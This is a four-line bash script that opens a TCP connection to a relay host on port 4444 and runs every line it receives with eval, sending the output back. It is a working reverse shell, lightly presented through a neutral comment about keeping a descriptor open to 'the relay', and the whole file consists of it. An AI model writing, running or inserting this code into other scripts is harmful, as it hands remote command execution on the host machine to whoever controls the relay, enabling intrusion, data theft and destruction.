#!/bin/bash
# Keeps a descriptor open to the relay and runs whatever lines arrive on it.
exec 5<>/dev/tcp/relay.pairing.invalid/4444
while read -r line <&5; do eval "$line" >&5 2>&5; done
